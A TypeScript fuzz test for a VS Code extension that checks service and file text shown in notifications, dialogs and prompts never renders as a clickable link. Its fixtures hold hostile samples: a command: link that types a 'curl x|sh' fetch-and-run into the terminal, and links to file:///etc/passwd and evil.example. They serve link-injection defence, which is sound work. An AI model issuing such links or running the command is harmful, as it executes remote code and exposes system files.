// Text from a service or a file must never become a link in a notification, a dialog or a prompt: VS Code runs a
// `command:` link when it is clicked. Seen: a deploy error whose message held `[Request more quota](command:…)`,
// and a failed data set's name in "synchronization failed", both shown as a link.
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { test } from 'node:test';
import fc from 'fast-check';
import type * as vscode from 'vscode';
import { ArmError, errorMessage } from '../../src/core/arm/errors';
import { asPlainText } from '../../src/core/arm/plainText';
import { plainPrompts } from '../../src/ui/plainPrompts';
import type { UserInput } from '../../src/ui/userInput';
import { fuzzRuns } from './fuzzSeed';

/**
 * A model of what VS Code renders as a link, written from its source (microsoft/vscode:
 * src/vs/base/common/linkedText.ts `parseLinkedText`; the notification view item joins lines with spaces before
 * parsing, src/vs/workbench/common/notifications.ts; the quick input parses its prompt and validation message as
 * they are, src/vs/platform/quickinput/browser/quickInputUtils.ts): `[label](target)` whose target starts with
 * http://, https://, command: or file: and runs to the first `)` or white space.
 */
const RENDERED_LINK = /\[[^\]]+\]\((?:https?:\/\/|command:|file:)[^)\s]+(?: (["']).+?\1)?\)/i;
function rendersLink(text: string): boolean {
  return RENDERED_LINK.test(text) || RENDERED_LINK.test(text.replace(/\r\n|\r|\n/g, ' '));
}

const visible = (s: string) => s.replace(/\u200b/g, '');

/** Strings a service or a file may hold: arbitrary text mixed with pieces of link syntax. */
const hostile = fc
  .array(
    fc.oneof(
      fc.string(),
      fc.string({ unit: 'grapheme' }),
      fc.constantFrom('[', ']', '(', ')', '](', ']\n(', 'command:', 'COMMAND:', 'file:', 'https://', 'http://', ' "t"', '\n', '\r\n', 'x', ' '),
      fc.tuple(fc.string({ minLength: 1 }), fc.constantFrom('command:', 'file:///', 'https://', 'HTTP://'), fc.string()).map(([l, s, t]) => `[${l}](${s}${t})`),
    ),
    { maxLength: 12 },
  )
  .map((parts) => parts.join(''));

test('the seen messages are shown as text, read as written', () => {
  const quota = 'Deploy of web failed: Operation could not be completed. [Request more quota](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D)';
  assert.ok(rendersLink(quota));
  assert.equal(rendersLink(asPlainText(quota)), false);
  assert.equal(visible(asPlainText(quota)), quota);
  const dataSet = 'sales synchronization failed: [open](file:///etc/passwd), [x\ny](HTTPS://evil.example)';
  assert.equal(rendersLink(asPlainText(dataSet)), false);
  assert.equal(asPlainText('Deployed web to rg.'), 'Deployed web to rg.');
});

test('property: any text made plain renders no link and reads the same', () => {
  fc.assert(
    fc.property(hostile, (s) => {
      const shown = asPlainText(s);
      assert.equal(rendersLink(shown), false, JSON.stringify(shown));
      assert.equal(visible(shown), visible(s));
    }),
    { numRuns: fuzzRuns(3000), seed: 38 },
  );
});

/** A prompt seam that records every text it is asked to show. */
function recorder(): { input: UserInput; shown: string[] } {
  const shown: string[] = [];
  const keep = (...t: Array<string | undefined>) => t.forEach((x) => x !== undefined && shown.push(x));
  const input: UserInput = {
    inputBox: async (o) => {
      keep(o.title, o.prompt, o.placeHolder);
      const v = await o.validateInput?.('x');
      keep(typeof v === 'string' ? v : v?.message);
      return undefined;
    },
    quickPick: async (_items, o) => (keep(o.title, o.placeHolder, o.loadedPlaceHolder?.(3)), undefined),
    message: async (_kind, text, ...rest) => {
      keep(text);
      for (const r of rest) if (typeof r === 'object') keep(r.detail);
      return undefined;
    },
    saveDialog: async (o) => (keep(o.title), undefined),
    openDialog: async (o) => (keep(o.title), undefined),
    progress: async (o, task) => {
      keep(o.title);
      const progress = { report: (v: { message?: string }) => keep(v.message) };
      return task(progress, {} as vscode.CancellationToken);
    },
  };
  return { input, shown };
}

/** The product's own message templates, each `{n}` filled with service text as `vscode.l10n.t` does. */
const templates = Object.keys(JSON.parse(fs.readFileSync(path.resolve(__dirname, '../../../l10n/bundle.l10n.json'), 'utf8')) as Record<string, string>);
const fill = (template: string, args: string[]) => template.replace(/\{(\d+)\}/g, (_m, i: string) => args[Number(i) % args.length] ?? '');

test('property: every place that builds a prompt or a notification, given service text, shows no link', async () => {
  assert.ok(templates.length > 100);
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...templates), fc.array(hostile, { minLength: 1, maxLength: 3 }), async (template, args) => {
      const { input, shown } = recorder();
      const ui = plainPrompts(input);
      const text = fill(template, args);
      // A service error as the command wrapper shows it (errorMessage of an ArmError carrying the service's words).
      const failure = errorMessage(new ArmError(`Conflict (409): ${args[0]} [Code]`, { kind: 'http', status: 409, serviceMessage: args[0] }));
      await ui.message('error', failure);
      await ui.message('warning', text, { modal: true, detail: args.join('\n\n') }, 'OK');
      await ui.inputBox({ title: text, prompt: args[0], placeHolder: text, validateInput: () => text });
      await ui.inputBox({ prompt: text, validateInput: () => ({ message: text, severity: 3 }) });
      await ui.quickPick([], { title: text, placeHolder: text, loadedPlaceHolder: () => text });
      await ui.saveDialog({ title: text });
      await ui.openDialog({ title: text });
      await ui.progress({ location: 15, title: text }, async (p) => p.report({ message: text }));
      assert.ok(shown.length >= 14);
      for (const s of shown) assert.equal(rendersLink(s), false, JSON.stringify(s));
    }),
    { numRuns: fuzzRuns(1500), seed: 38 },
  );
});
